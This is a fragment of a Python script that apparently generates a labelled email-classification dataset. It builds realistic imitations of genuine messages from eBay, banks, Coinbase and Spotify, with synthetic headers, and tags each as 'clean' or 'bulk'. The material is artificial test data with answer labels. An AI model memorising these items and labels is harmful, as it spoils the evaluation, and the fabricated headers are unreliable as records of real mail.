<img src="https://www.ebayadservices.com/marketingtracking/v1/impression?mkevt=4&amp;siteId=3&amp;mkpid=0&amp;emsid=e11051.m43.l1123&amp;mkcid=7&amp;ch=osgood&amp;euid={hexs(stem + 'euid', 32)}&amp;bu={digits(stem + 'bu', 11)}&amp;osub=-1%7E1&amp;crd={sent.strftime('%Y%m%d%H%M%S')}&amp;segname=11051" width="1" height="1" alt="" style="display:block;">
</body></html>
"""
    hops = [
        dkim(stem, "ebay.com", "ebay", sent, h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", extra="i=@ebay.com"),
        rcv(f"from phx-ems-{digits(stem + 'ems', 3)}.phx.ebay.com (phx-ems-{digits(stem + 'ems', 3)}.phx.ebay.com [10.64.{digits(stem + 'e3', 2)}.{digits(stem + 'e4', 2)}])\n\tby mxphxpool2053.ebay.com (Postfix) with ESMTP id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, PACIFIC),
    ]
    headers = f"""Date: {rfc(sent, PACIFIC)}
From: eBay <ebay@ebay.com>
To: {rcpt}
Message-ID: <{hexs(stem + 'mid', 8).upper()}.{digits(stem + 'mid2', 10)}.{ts(sent)}@ebay.com>
Subject: Order confirmed: Bosch PSB 18 LI-2 Cordless Combi Drill with 2x 2.0Ah Batteries
MIME-Version: 1.0
X-eBay-MailTracker: 11051.{digits(stem + 'mt', 9)}.0.{hexs(stem + 'mt2', 8)}
X-Email-Type-Id: 11051"""
    emit(stem, "clean",
         "Genuine eBay UK 'Order confirmed' for a cordless drill from ebay@ebay.com (SPF/DKIM/DMARC pass) with eBay's mkevt/emsid tracking parameters on ebay.co.uk links and an ebayadservices impression pixel.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "66.211.185.40", "mxphxpool2053.ebay.com", "ebay@ebay.com",
                 dkim=[("ebay.com", "ebay", "pass")], dmarc="pass", policy="REJECT", hfrom="ebay.com"),
         hops, headers, alt(plain, html, bnd(stem)))


def l10_sparkasse_postfach() -> None:
    stem = "b50-legit-sparkasse-postfach"
    rcpt = "gisela.haubold@gmx.de"
    dom = "sparkasse-leipzig.de"
    sent = utc(2025, 1, 7, 5, 12, 31)
    body = ("Sehr geehrte Frau Haubold,\n\n"
            "in Ihrem elektronischen Postfach im Online-Banking liegt eine neue Nachricht für Sie bereit:\n\n"
            "    Kontoauszug Nr. 12/2024 zum Girokonto ...4418\n\n"
            "Aus Sicherheitsgründen enthält diese E-Mail keine Links. Bitte melden Sie sich wie gewohnt über die "
            "Internetseite Ihrer Sparkasse oder die App \"Sparkasse\" an, um die Nachricht abzurufen.\n\n"
            "Wir werden Sie niemals per E-Mail auffordern, PIN, TAN oder Zugangsdaten einzugeben.\n\n"
            "Mit freundlichen Grüßen\nIhre Sparkasse Leipzig\n\n"
            "--\nSparkasse Leipzig, Anstalt des öffentlichen Rechts\nHumboldtstraße 25, 04105 Leipzig\n"
            "Vorstand: siehe Impressum | Amtsgericht Leipzig HRA 10681\n"
            "Diese E-Mail wurde automatisch erzeugt. Bitte antworten Sie nicht auf diese Nachricht.\n")
    hops = [
        dkim(stem, dom, "s2024", sent, h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Content-Transfer-Encoding"),
        rcv(f"from osplus-msg{digits(stem + 'os', 2)}.fi-intern.de ([10.140.{digits(stem + 's3', 2)}.{digits(stem + 's4', 2)}])\n\tby mailout{digits(stem + 'mo', 1)}.sparkassen-mail.de (Postfix) with ESMTPS id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""Date: {rfc(sent, BERLIN)}
From: Sparkasse Leipzig <noreply@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 12)}.{digits(stem + 'mid2', 6)}.JavaMail.osplus@{dom}>
Subject: Neue Nachricht in Ihrem elektronischen Postfach
MIME-Version: 1.0"""
    emit(stem, "clean",
         "Genuine Sparkasse Leipzig notice 'neue Nachricht im elektronischen Postfach' (statement 12/2024) in plain text from the savings bank's own domain (all checks pass) that deliberately contains no links.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "91.231.108.31", f"mailout{digits(stem + 'mo', 1)}.sparkassen-mail.de", f"noreply@{dom}",
                 dkim=[(dom, "s2024", "pass")], dmarc="pass", policy="REJECT", hfrom=dom),
         hops, headers, text(body, "plain", "quoted-printable", "iso-8859-1"))


def l11_ing_newsletter() -> None:
    stem = "b50-legit-ing-newsletter"
    rcpt = "r.scheuermann@web.de"
    sub = "mailing.ing.de"
    sent = utc(2024, 11, 12, 9, 0, 14)
    click, opener = sfmc(stem, sub)
    plain = ("ING Newsletter November 2024\n\nHallo Herr Scheuermann,\n\n"
             "Sparen mit Zinsen: Das Extra-Konto bietet Neukunden 3,00 % p.a. für 4 Monate.\n"
             f"Mehr erfahren: {click(1)}\n\n"
             "Wertpapiere: ETF-Sparpläne ab 1 Euro – jetzt ohne Ausführungsgebühr bei ausgewählten ETFs.\n"
             f"Zum Angebot: {click(2)}\n\n"
             "Sicherheit: Wir fragen Sie niemals per E-Mail oder Telefon nach Ihrer PIN oder TAN.\n"
             f"Mehr zum Thema Sicherheit: {click(3)}\n\n"
             f"Newsletter abbestellen: {click(9)}\n\nING-DiBa AG, Theodor-Heuss-Allee 2, 60486 Frankfurt am Main\n")
    html = f"""<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>ING Newsletter</title></head>
<body style="margin:0;padding:0;background:#f0f0f0;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f0f0f0"><tr><td align="center" style="padding:16px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:'ING Me',Arial,sans-serif;color:#333333;">
<tr><td style="padding:20px 24px;"><a href="{click(0)}"><img src="https://image.{sub}/lib/fe3611717564047d7c1d79/m/1/ing-logo.png" width="100" alt="ING" style="display:block;border:0;"></a></td></tr>
<tr><td><a href="{click(1)}"><img src="https://image.{sub}/lib/fe3611717564047d7c1d79/m/1/nl-2411-hero.jpg" width="600" alt="Extra-Konto" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:22px 24px 6px 24px;font-size:15px;">Hallo Herr Scheuermann,</td></tr>
<tr><td style="padding:6px 24px;font-size:20px;font-weight:bold;color:#ff6200;">Sparen mit Zinsen</td></tr>
<tr><td style="padding:4px 24px 12px 24px;font-size:15px;line-height:22px;">Das Extra-Konto bietet Neukunden 3,00&nbsp;% p.a. f&uuml;r 4 Monate. <a href="{click(1)}" style="color:#ff6200;">Mehr erfahren</a></td></tr>
<tr><td style="padding:6px 24px;font-size:20px;font-weight:bold;color:#ff6200;">ETF-Sparpl&auml;ne ab 1 Euro</td></tr>
<tr><td style="padding:4px 24px 12px 24px;font-size:15px;line-height:22px;">Jetzt ohne Ausf&uuml;hrungsgeb&uuml;hr bei ausgew&auml;hlten ETFs. <a href="{click(2)}" style="color:#ff6200;">Zum Angebot</a></td></tr>
<tr><td style="padding:12px 24px;font-size:14px;line-height:21px;background:#fff7f0;">Sicherheitshinweis: Wir fragen Sie niemals per E-Mail oder Telefon nach Ihrer PIN oder TAN. <a href="{click(3)}" style="color:#ff6200;">Mehr zum Thema Sicherheit</a></td></tr>
<tr><td style="padding:20px 24px;font-size:11px;line-height:16px;color:#888888;">Sie erhalten diesen Newsletter, weil Sie ihn im Online-Banking abonniert haben. <a href="{click(9)}" style="color:#888888;">Newsletter abbestellen</a> &middot; <a href="{click(8)}" style="color:#888888;">Datenschutz</a> &middot; <a href="{click(7)}" style="color:#888888;">Impressum</a><br>ING-DiBa AG, Theodor-Heuss-Allee 2, 60486 Frankfurt am Main</td></tr>
</table></td></tr></table>
<img src="{opener}" width="1" height="1" alt="">
</body></html>
"""
    job = f"{digits(stem + 'j1', 7)}_{digits(stem + 'j2', 6)}"
    env = f"bounce-{digits(stem + 'b1', 2)}_HTML-{digits(stem + 'b2', 9)}-{digits(stem + 'b3', 6)}-{digits(stem + 'b4', 7)}-{digits(stem + 'b5', 2)}@bounce.{sub}"
    hops = [dkim(stem, sub, "200608", sent, h="From:To:Subject:Date:MIME-Version:Reply-To:List-Unsubscribe:List-Unsubscribe-Post:Message-ID:Content-Type")]
    headers = f"""From: ING <info@{sub}>
To: {rcpt}
Subject: {qword("Ihr ING Newsletter: Zinsen, ETF-Sparpläne und Sicherheit")}
Date: {rfc(sent)}
MIME-Version: 1.0
Reply-To: ING <reply-{hexs(stem + 'rep', 24)}@{sub}>
{sfmc_headers(stem, sub, job)}
Message-ID: <{guid(stem + 'mid')}@atl1s07mta{digits(stem + 'mta', 4)}.xt.local>"""
    emit(stem, "bulk",
         "Genuine ING Germany customer newsletter from mailing.ing.de sent through Salesforce Marketing Cloud (DKIM/DMARC pass) with click.mailing.ing.de tracking, an open pixel and a security reminder.",
         Inbound("webde", rcpt, sent + timedelta(seconds=2), "13.111.88.37", f"mta.{sub}", env,
                 dkim=[(sub, "200608", "pass")], dmarc="pass", policy="REJECT", hfrom=sub),
         hops, headers, alt(plain, html, bnd(stem, "sfmc")))


def l12_chase_balance_alert() -> None:
    stem = "b50-legit-chase-balance-alert"
    rcpt = "jordan.whitfield1987@outlook.com"
    sent = utc(2025, 6, 30, 10, 12, 48)
    plain = ("Chase\n\nYour balance is below $100.00\n\n"
             "Account: Chase Total Checking (...4471)\nBalance: $87.32\nAs of: Jun 30, 2025 at 6:12 AM ET\n\n"
             "You set up this alert to let you know when your available balance falls below $100.00.\n\n"
             "Review account: https://secure.chase.com/web/auth/nav?navKey=requestDashboard\n\n"
             "Securely access your accounts with the Chase Mobile app or chase.com.\n\n"
             "ALERT SETTINGS | SECURITY CENTER\n\n"
             "Don't reply to this alert. Chase doesn't ask for personal or account information by email.\n"
             "JPMorgan Chase Bank, N.A. Member FDIC\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#f6f6f6;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f6f6f6"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Arial,Helvetica,sans-serif;color:#414042;">
<tr><td style="padding:20px 30px;border-bottom:1px solid #e5e5e5;"><img src="https://www.chase.com/content/dam/email/images/chase-logo-h-rgb.png" width="122" alt="Chase" style="display:block;"></td></tr>
<tr><td style="padding:26px 30px 10px 30px;font-size:22px;color:#1c4f82;">Your balance is below $100.00</td></tr>
<tr><td style="padding:6px 30px;"><table width="100%" cellpadding="6" cellspacing="0" style="font-size:14px;border-top:1px solid #e5e5e5;">
<tr><td style="color:#717171;">Account</td><td align="right">Chase Total Checking (...4471)</td></tr>
<tr><td style="color:#717171;border-top:1px solid #e5e5e5;">Balance</td><td align="right" style="border-top:1px solid #e5e5e5;">$87.32</td></tr>
<tr><td style="color:#717171;border-top:1px solid #e5e5e5;">As of</td><td align="right" style="border-top:1px solid #e5e5e5;">Jun 30, 2025 at 6:12 AM ET</td></tr></table></td></tr>
<tr><td style="padding:16px 30px;font-size:14px;line-height:21px;">You set up this alert to let you know when your available balance falls below $100.00.</td></tr>
<tr><td style="padding:4px 30px 24px 30px;"><a href="https://secure.chase.com/web/auth/nav?navKey=requestDashboard" style="background:#117aca;color:#ffffff;padding:11px 24px;border-radius:4px;text-decoration:none;font-size:14px;">Review account</a></td></tr>
<tr><td style="padding:18px 30px;font-size:11px;line-height:16px;color:#717171;background:#f6f6f6;"><a href="https://secure.chase.com/web/auth/nav?navKey=requestAlertsSettings" style="color:#117aca;">Alert settings</a> | <a href="https://www.chase.com/digital/resources/privacy-security" style="color:#117aca;">Security center</a><br><br>Don't reply to this alert. Chase doesn't ask for personal or account information by email. If you get an email that looks suspicious, forward it to phishing@chase.com.<br><br>JPMorgan Chase Bank, N.A. Member FDIC<br>&copy; 2025 JPMorgan Chase &amp; Co.</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, "chase.com", "d4815", sent, h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", extra="i=@chase.com"),
        rcv(f"from alerts-gen-{digits(stem + 'ag', 2)}.jpmchase.net (alerts-gen-{digits(stem + 'ag', 2)}.jpmchase.net [169.71.{digits(stem + 'c3', 2)}.{digits(stem + 'c4', 2)}])\n\tby mta7.chase.com (Postfix) with ESMTPS id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, NEWYORK),
    ]
    headers = f"""Date: {rfc(sent, NEWYORK)}
From: Chase <no.reply.alerts@chase.com>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 6)}.JavaMail.alerts@chase.com>
Subject: Your balance is below $100.00
MIME-Version: 1.0
X-Chase-Alert-Type: LOW_BALANCE"""
    emit(stem, "clean",
         "Genuine Chase low-balance alert from no.reply.alerts@chase.com (SPF/DKIM/DMARC pass) with the masked account number and secure.chase.com links: a real account alert the Chase phishing imitates.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "159.53.110.44", "mta7.chase.com", "bounce@alerts.chase.com",
                 dkim=[("chase.com", "d4815", "pass")], dmarc="pass", policy="REJECT", hfrom="chase.com"),
         hops, headers, alt(plain, html, bnd(stem)))


def l13_wellsfargo_statement() -> None:
    stem = "b50-legit-wellsfargo-statement"
    rcpt = "sharonlee1961@aol.com"
    dom = "notify.wellsfargo.com"
    sent = utc(2024, 3, 5, 12, 31, 7)
    plain = ("Wells Fargo Online\n\nYour statement is available\n\n"
             "Your statement for your Everyday Checking account ending in 3302 is now available to view online.\n\n"
             "To view your statement, sign on to wellsfargo.com and go to Statements & Documents.\n\n"
             "Please do not reply to this automated email.\n\n"
             "Wells Fargo Bank, N.A. Member FDIC\n" + hexs(stem + 'ref', 8) + "-" + hexs(stem + 'ref2', 4) + "\n")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f4f0ed;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f4f0ed"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Verdana,Arial,sans-serif;font-size:13px;color:#3b3331;">
<tr><td bgcolor="#d71e28" style="padding:14px 20px;"><img src="https://www17.wellsfargomedia.com/assets/images/rwd/wf_logo_220x23.png" width="220" height="23" alt="Wells Fargo" style="display:block;"></td></tr>
<tr><td bgcolor="#ffcd41" style="height:4px;line-height:4px;font-size:1px;">&nbsp;</td></tr>
<tr><td style="padding:24px 20px 6px 20px;font-size:19px;">Your statement is available</td></tr>
<tr><td style="padding:6px 20px;line-height:19px;">Your statement for your Everyday Checking account ending in <b>3302</b> is now available to view online.</td></tr>
<tr><td style="padding:10px 20px;line-height:19px;">To view your statement, sign on to <a href="https://www.wellsfargo.com/" style="color:#5a469b;">wellsfargo.com</a> and go to Statements &amp; Documents.</td></tr>
<tr><td style="padding:20px;font-size:10px;line-height:15px;color:#787070;border-top:1px solid #e0dcd9;">Please do not reply to this automated email. <a href="https://www.wellsfargo.com/privacy-security/fraud/report/" style="color:#5a469b;">Report suspicious email</a><br><br>Wells Fargo Bank, N.A. Member FDIC<br>{hexs(stem + 'ref', 8)}-{hexs(stem + 'ref2', 4)}</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "wfa", sent, h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", extra=f"i=@{dom}"),
        rcv(f"from msgsvc{digits(stem + 'ms', 3)}.wellsfargo.com (msgsvc{digits(stem + 'ms', 3)}.wellsfargo.com [10.110.{digits(stem + 'w3', 2)}.{digits(stem + 'w4', 2)}])\n\tby mta-b.{dom} (Postfix) with ESMTPS id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, NEWYORK),
    ]
    headers = f"""Date: {rfc(sent, NEWYORK)}
From: Wells Fargo Online <alerts@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 6)}@{dom}>
Subject: Your statement is available
MIME-Version: 1.0"""
    emit(stem, "clean",
         "Genuine Wells Fargo 'your statement is available' notice from alerts@notify.wellsfargo.com (SPF/DKIM/DMARC pass) that only tells the customer to sign on at wellsfargo.com.",
         Inbound("aol", rcpt, sent + timedelta(seconds=2), "159.45.170.31", f"mta-b.{dom}", f"bounce@{dom}",
                 dkim=[(dom, "wfa", "pass")], dmarc="pass", policy="REJECT", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def l14_coinbase_received() -> None:
    stem = "b50-legit-coinbase-received-eth"
    rcpt = "mbrennan.home@gmail.com"
    sent = utc(2024, 12, 5, 14, 22, 36)
    mid, _ = ses_hops(stem, sent)
    env = f"{mid}@mail.coinbase.com"
    plain = ("Coinbase\n\nYou received 0.05 ETH\n\n"
             "You just received 0.05 ETH ($193.41) from an external Ethereum address.\n\n"
             f"Transaction hash: 0x{hexs(stem + 'tx', 64)}\n\n"
             "View transaction: https://www.coinbase.com/transactions\n\n"
             "Coinbase will never ask you to share your password, 2-step verification codes, or to move funds to a 'safe' wallet.\n\n"
             "Coinbase, Inc. 82 Nassau St #61234, New York, NY 10038\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="font-family:'Coinbase Sans',Helvetica,Arial,sans-serif;color:#0a0b0d;">
<tr><td style="padding:32px 24px 16px 24px;"><img src="https://static-assets.coinbase.com/email/coinbase-logo-blue-2x.png" width="116" alt="Coinbase" style="display:block;"></td></tr>
<tr><td style="padding:8px 24px;font-size:28px;font-weight:600;">You received 0.05 ETH</td></tr>
<tr><td style="padding:8px 24px;font-size:16px;line-height:24px;color:#5b616e;">You just received 0.05 ETH ($193.41) from an external Ethereum address.</td></tr>
<tr><td style="padding:8px 24px;font-size:12px;color:#5b616e;word-break:break-all;">Transaction hash: 0x{hexs(stem + 'tx', 64)}</td></tr>
<tr><td style="padding:20px 24px;"><a href="https://www.coinbase.com/transactions" style="background:#0052ff;color:#ffffff;font-size:16px;font-weight:600;padding:14px 28px;border-radius:56px;text-decoration:none;">View transaction</a></td></tr>
<tr><td style="padding:24px;font-size:12px;line-height:18px;color:#5b616e;border-top:1px solid #eef0f3;">Coinbase will never ask you to share your password, 2-step verification codes, or to move funds to a &lsquo;safe&rsquo; wallet. <a href="https://help.coinbase.com/en/coinbase/privacy-and-security/avoiding-phishing-and-scams" style="color:#0052ff;">Learn more</a><br><br>Coinbase, Inc. 82 Nassau St #61234, New York, NY 10038</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, "coinbase.com", "cbses1", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type"),
        dkim(stem, "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID"),
    ]
    headers = f"""Date: {rfc(sent)}
From: Coinbase <no-reply@coinbase.com>
To: {rcpt}
Message-ID: <{mid}@email.amazonses.com>
Subject: You received 0.05 ETH
MIME-Version: 1.0
Feedback-ID: ::1.us-east-1.{b64(stem + 'fb', 30)}=:AmazonSES
X-SES-Outgoing: 2024.12.05-54.240.48.108"""
    emit(stem, "clean",
         "Genuine Coinbase 'You received 0.05 ETH' transaction notice from no-reply@coinbase.com via Amazon SES with a custom MAIL FROM (all checks pass), linking to coinbase.com and warning about scams.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=1), "54.240.48.108", "a48-108.smtp-out.amazonses.com", env,
                 dkim=[("coinbase.com", "cbses1", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
                 dmarc="pass", policy="REJECT", hfrom="coinbase.com"),
         hops, headers, alt(plain, html, bnd(stem, "ses")))


def l15_coinbase_newsletter() -> None:
    stem = "b50-legit-coinbase-bytes-newsletter"
    rcpt = "lindsay.okoro@yahoo.com"
    sub = "info.coinbase.com"
    sent = utc(2025, 2, 25, 16, 3, 50)
    sp = lambda n: f"https://links.{sub}/f/a/{b64url(stem + 'spa' + str(n), 18)}~~/AAAAARA~/{b64url(stem + 'spb' + str(n), 90)}"
    plain = ("Coinbase Bytes\n\nThe week in crypto, in 3 minutes.\n\n"
             "1. Bitcoin slips below $90K as markets digest macro data.\n2. Ethereum's Pectra upgrade lands on testnets.\n"
             "3. Stablecoin legislation moves forward in the US Senate.\n\n"
             f"Read the full edition: {sp(1)}\n\n"
             "Crypto is volatile and investing involves risk. This is not investment advice.\n\n"
             f"Unsubscribe: {sp(9)}\nCoinbase, Inc. 82 Nassau St #61234, New York, NY 10038\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#f7f8f9;">
<div style="display:none;max-height:0;overflow:hidden;">The week in crypto, in 3 minutes.</div>
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f7f8f9"><tr><td align="center" style="padding:24px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:'Coinbase Sans',Helvetica,Arial,sans-serif;color:#0a0b0d;border-radius:8px;">
<tr><td style="padding:28px 32px 8px 32px;"><a href="{sp(0)}"><img src="https://static-assets.coinbase.com/email/coinbase-logo-blue-2x.png" width="116" alt="Coinbase" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:12px 32px;font-size:30px;font-weight:600;">Coinbase Bytes</td></tr>
<tr><td style="padding:0 32px 16px 32px;font-size:15px;color:#5b616e;">The week in crypto, in 3 minutes.</td></tr>
<tr><td style="padding:8px 32px;font-size:16px;line-height:25px;"><b>1.</b> Bitcoin slips below $90K as markets digest macro data.<br><b>2.</b> Ethereum&rsquo;s Pectra upgrade lands on testnets.<br><b>3.</b> Stablecoin legislation moves forward in the US Senate.</td></tr>
<tr><td style="padding:20px 32px;"><a href="{sp(1)}" style="background:#0052ff;color:#ffffff;font-size:15px;font-weight:600;padding:13px 26px;border-radius:56px;text-decoration:none;">Read the full edition</a></td></tr>
<tr><td style="padding:20px 32px;font-size:11px;line-height:17px;color:#5b616e;border-top:1px solid #eef0f3;">Crypto is volatile and investing involves risk. This is not investment advice.<br><br>You're receiving this because you subscribed to Coinbase Bytes. <a href="{sp(9)}" style="color:#0052ff;">Unsubscribe</a> &middot; <a href="{sp(8)}" style="color:#0052ff;">Email preferences</a><br>Coinbase, Inc. 82 Nassau St #61234, New York, NY 10038</td></tr>
</table></td></tr></table>
<img border="0" width="1" height="1" alt="" src="https://links.{sub}/q/{b64url(stem + 'open', 16)}~~/AAAAARA~/{b64url(stem + 'open2', 70)}">
</body></html>
"""
    env = f"msprvs1={digits(stem + 'ms', 5)}{alnum(stem + 'ms2', 6)}=bounces-{digits(stem + 'bo', 6)}-{digits(stem + 'bo2', 4)}@bounces.{sub}"
    hops = [
        dkim(stem, sub, "scph0223", sent, h="To:Message-ID:Date:Content-Type:Subject:From:List-Unsubscribe:List-Unsubscribe-Post:MIME-Version"),
        f"X-MSFBL: {b64(stem + 'msfbl', 60)}",
        rcv(f"from [10.90.{digits(stem + 'c3', 2)}.{digits(stem + 'c4', 2)}] ([10.90.{digits(stem + 'c3', 2)}.{digits(stem + 'c4', 2)}]:{digits(stem + 'port', 5)})\n\tby mta-{digits(stem + 'mta', 3)}.{sub} (envelope-from <{env}>)\n\t(ecelerity 4.4.1.20033 r(msys-ecelerity:tags/4.4.1.0^0)) with HTTP\n\tid {hexs(stem + 'ec', 8).upper()}-{hexs(stem + 'ec2', 8).upper()}", sent),
    ]
    headers = f"""To: {rcpt}
Message-ID: <{hexs(stem + 'mid', 8).upper()}.{hexs(stem + 'mid2', 8).upper()}.{digits(stem + 'mid3', 5)}.{digits(stem + 'mid4', 6)}@mta-{digits(stem + 'mta', 3)}.{sub}>
Date: {rfc(sent)}
Subject: Coinbase Bytes: Bitcoin dips, Pectra lands on testnets
From: Coinbase Bytes <bytes@{sub}>
List-Unsubscribe: <{sp(9)}>, <mailto:unsubscribe-{hexs(stem + 'uns', 24)}@{sub}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0"""
    emit(stem, "bulk",
         "Genuine Coinbase Bytes weekly crypto newsletter from info.coinbase.com via SparkPost/Braze (DKIM/DMARC pass) with links.info.coinbase.com click tracking and one-click unsubscribe.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "192.174.86.212", f"mta-{digits(stem + 'mta', 3)}.{sub}", env,
                 dkim=[(sub, "scph0223", "pass")], dmarc="pass", policy="REJECT", hfrom=sub),
         hops, headers, alt(plain, html, bnd(stem)))


def l16_spotify_wrapped() -> None:
    stem = "b50-legit-spotify-wrapped"
    rcpt = "kirsten.mayfield77@gmail.com"
    sent = utc(2025, 12, 3, 14, 1, 22)
    click = lambda n: f"https://wl.spotify.com/ls/click?upn=u001.{b64(stem + 'upn' + str(n), 140).replace('/', '-').replace('+', '_').rstrip('=')}"
    plain = ("Your 2025 Wrapped is here.\n\nYour top artists, songs, genres and listening minutes of the year are waiting.\n\n"
             f"See your Wrapped: {click(1)}\n\n"
             f"Unsubscribe: {click(9)}\nSpotify AB, Regeringsgatan 19, 111 53 Stockholm, Sweden\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#000000;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#000000"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="font-family:'Spotify Circular',Helvetica,Arial,sans-serif;color:#ffffff;">
<tr><td style="padding:32px 32px 0 32px;"><a href="{click(0)}"><img src="https://message-editor.scdn.co/spotify_logo_2x.png" width="120" alt="Spotify" style="display:block;border:0;"></a></td></tr>
<tr><td><a href="{click(1)}"><img src="https://message-editor.scdn.co/{hexs(stem + 'img', 32)}.png" width="600" alt="Your 2025 Wrapped is here" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:24px 32px 8px 32px;font-size:32px;font-weight:bold;line-height:38px;">Your 2025 Wrapped is here.</td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:16px;line-height:24px;color:#b3b3b3;">Your top artists, songs, genres and listening minutes of the year are waiting.</td></tr>
<tr><td style="padding:0 32px 40px 32px;"><a href="{click(1)}" style="background:#1ed760;color:#000000;font-size:16px;font-weight:bold;padding:14px 32px;border-radius:500px;text-decoration:none;">See your Wrapped</a></td></tr>
<tr><td style="padding:24px 32px;font-size:11px;line-height:17px;color:#a7a7a7;border-top:1px solid #282828;">This message was sent to {rcpt}. If you don't want to receive these emails from Spotify in the future, you can <a href="{click(8)}" style="color:#ffffff;">edit your profile</a> or <a href="{click(9)}" style="color:#ffffff;">unsubscribe</a>.<br><a href="{click(7)}" style="color:#a7a7a7;">Terms of Use</a> | <a href="{click(6)}" style="color:#a7a7a7;">Privacy Policy</a> | <a href="{click(5)}" style="color:#a7a7a7;">Contact Us</a><br>Spotify AB, Regeringsgatan 19, 111 53 Stockholm, Sweden</td></tr>
</table></td></tr></table>
<img src="https://wl.spotify.com/wf/open?upn=u001.{b64(stem + 'open', 110).replace('/', '-').replace('+', '_').rstrip('=')}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important;"/>
</body></html>
"""
    sgid = alnum(stem + "sgid", 22, ALNUM + "-_")
    hops = [
        dkim(stem, "spotify.com", "s1", sent, q=True, h="content-type:from:mime-version:subject:list-unsubscribe:list-unsubscribe-post:x-feedback-id:to:cc:content-type:from:subject:to"),
        f"Received: by recvd-7c9f6d4b8-kq2lp with SMTP id recvd-7c9f6d4b8-kq2lp-1-69304{hexs(stem + 'rv', 3).upper()}-{digits(stem + 'rvn', 2)}\n\t2025-12-03 14:01:22.{digits(stem + 'rvms', 9)} +0000 UTC m=+{digits(stem + 'm', 7)}.{digits(stem + 'm2', 9)}",
        f"Received: from NDQ1MjY1Mw (unknown)\n\tby geopod-ismtpd-41 (SG) with HTTP\n\tid {sgid}\n\tfor <{rcpt}>;\n\tWed, 03 Dec 2025 14:01:22.{digits(stem + 'sgms', 3)} +0000 (UTC)",
    ]
    headers = f"""Date: Wed, 03 Dec 2025 14:01:22 +0000 (UTC)
From: Spotify <no-reply@spotify.com>
Mime-Version: 1.0
Message-ID: <{sgid}@geopod-ismtpd-41>
Subject: Your 2025 Wrapped is here.
List-Unsubscribe: <{click(9)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-Feedback-ID: 4452653:SG
X-SG-EID: u001.{b64(stem + 'eid', 90)}
X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3BtFdxd0ePbKpG9MIBxS4N+V{b64(stem + 'sgidv', 60)}
To: {rcpt}
X-Entity-ID: u001.{b64(stem + 'ent', 24)}"""
    emit(stem, "bulk",
         "Genuine Spotify 'Your 2025 Wrapped is here' campaign from no-reply@spotify.com through SendGrid with Spotify's branded wl.spotify.com click tracking (DKIM/DMARC pass for spotify.com).",
